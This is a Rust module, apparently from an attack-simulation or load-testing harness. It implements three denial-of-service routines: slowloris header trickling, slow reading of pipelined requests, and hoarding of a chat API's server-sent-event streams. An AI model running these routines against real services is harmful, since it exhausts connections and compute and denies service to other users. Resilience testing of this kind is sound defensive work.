//! Attacks that hold what they have got.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::army::{Field, keep};
use super::flood::sign_up;
use super::tally::Outcome;
use super::wire::{connect, outcome_of, statuses};
use crate::address;
use crate::http::{self, Connection, Pass};
use crate::kind::Kind;

/// Between two bytes of a head, and between two that are read.
const TRICKLE: Duration = Duration::from_secs(2);
/// Receive buffer of those who read slowly.
const SLOW_BYTES: u32 = 1024;
/// Streams of one answer that one hoarder opens.
const STREAMS_EACH: u64 = 16;

/// Heads that never end.
pub(super) async fn slowloris(field: &Arc<Field>, connections: f64) {
    let mut rng = field.rng(Kind::Slowloris);
    keep(field, Kind::Slowloris, connections, || {
        let from = address::of_attacker(&mut rng, field.orders.addresses);
        let field = Arc::clone(field);
        async move {
            let mut stream = match connect(&field.orders.target, from).await {
                Ok(stream) => stream,
                Err(outcome) => return outcome,
            };
            let head = format!("GET / HTTP/1.1\r\nHost: {}\r\n", field.orders.target.host);
            let mut bytes = head.into_bytes();
            let mut answer = [0; 512];
            loop {
                if stream.write_all(&bytes).await.is_err() {
                    return Outcome::Cut;
                }
                tokio::select! {
                    read = stream.read(&mut answer) => {
                        let read = read.unwrap_or(0);
                        let status = statuses(&answer[..read]).first().copied();
                        return status.map_or(Outcome::Cut, Outcome::Status);
                    }
                    () = sleep(TRICKLE) => bytes = b"X-A: b\r\n".to_vec(),
                }
            }
        }
    })
    .await;
}

/// Asks for the largest text that anybody gets, many times over, and reads a byte at a time.
pub(super) async fn slow_read(field: &Arc<Field>, connections: f64) {
    let mut rng = field.rng(Kind::SlowRead);
    keep(field, Kind::SlowRead, connections, || {
        let from = address::of_attacker(&mut rng, field.orders.addresses);
        let field = Arc::clone(field);
        async move {
            let target = &field.orders.target;
            let mut stream = match http::connect_with(target, from, Some(SLOW_BYTES)).await {
                Ok(stream) => stream,
                Err(error) => return outcome_of(&error),
            };
            let one = format!("GET /openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
            if stream.write_all(one.repeat(16).as_bytes()).await.is_err() {
                return Outcome::Cut;
            }
            let mut text = Vec::new();
            let mut byte = [0; 1];
            loop {
                match stream.read(&mut byte).await {
                    Ok(1) => text.extend(byte),
                    // Refused with a status, or cut.
                    _ => {
                        let status = statuses(&text).first().copied().filter(|status| *status >= 400);
                        return status.map_or(Outcome::Cut, Outcome::Status);
                    }
                }
                if text.len() > 12 {
                    sleep(TRICKLE).await;
                }
            }
        }
    })
    .await;
}

/// Streams of answers, as many as can be had, held for as long as they last.
pub(super) async fn streams(field: &Arc<Field>, connections: f64) {
    let kind = Kind::SseHoarding;
    let mut rng = field.rng(kind);
    let mut serial = 0;
    let mut hoard: Arc<tokio::sync::OnceCell<Option<Hoard>>> = Arc::default();
    keep(field, kind, connections, || {
        if serial % STREAMS_EACH == 0 {
            hoard = Arc::default();
        }
        serial += 1;
        let (from, mut own) = (address::of_attacker(&mut rng, field.orders.addresses), rng.fork());
        let (field, hoard) = (Arc::clone(field), Arc::clone(&hoard));
        async move {
            let found = hoard.get_or_init(|| async {
                let session = match field.mob.session(own.next_u64()) {
                    Some(session) => session,
                    None => sign_up(&field, kind, from, own.fork()).await?,
                };
                Hoard::begin(&field, from, session).await
            });
            match found.await {
                Some(hoard) => hoard.hold(&field, from).await,
                // Nothing to hold: tried again after as long as a person would.
                None => {
                    sleep(TRICKLE).await;
                    Outcome::Status(401)
                }
            }
        }
    })
    .await;
}

/// An answer that is being written for an attacker.
#[derive(Debug)]
struct Hoard {
    session: Pass,
    stream: String,
}

impl Hoard {
    async fn begin(field: &Field, from: Ipv4Addr, session: String) -> Option<Self> {
        let session = Pass::Cookie(session);
        let mut connection = Connection::open(&field.orders.target, from).await.ok()?;
        let made = connection.ask("POST", "/api/conversations", &session, Some(&json!({}))).await.ok()?;
        let messages = format!("/api/conversations/{}/messages", made.body["id"].as_str()?);
        let body = json!({"content": "Count from one to ten thousand, in words."});
        let turn = connection.ask("POST", &messages, &session, Some(&body)).await.ok()?;
        let message = Value::as_str(&turn.body["assistant"]["id"])?;
        Some(Self { session, stream: format!("{messages}/{message}/stream") })
    }

    async fn hold(&self, field: &Field, from: Ipv4Addr) -> Outcome {
        let mut connection = match Connection::open(&field.orders.target, from).await {
            Ok(connection) => connection,
            Err(http::Trouble::Unreachable(error)) => return outcome_of(&error),
            Err(_) => return Outcome::Cut,
        };
        match connection.stream("GET", &self.stream, &self.session, None).await {
            Ok(Ok(mut events)) => {
                while let Ok(Some(_)) = events.next().await {
                    sleep(TRICKLE).await;
                }
                // It had a stream, for as long as there was one.
                Outcome::Status(200)
            }
            Ok(Err(refusal)) => Outcome::Status(refusal.status),
            Err(_) => Outcome::Cut,
        }
    }
}
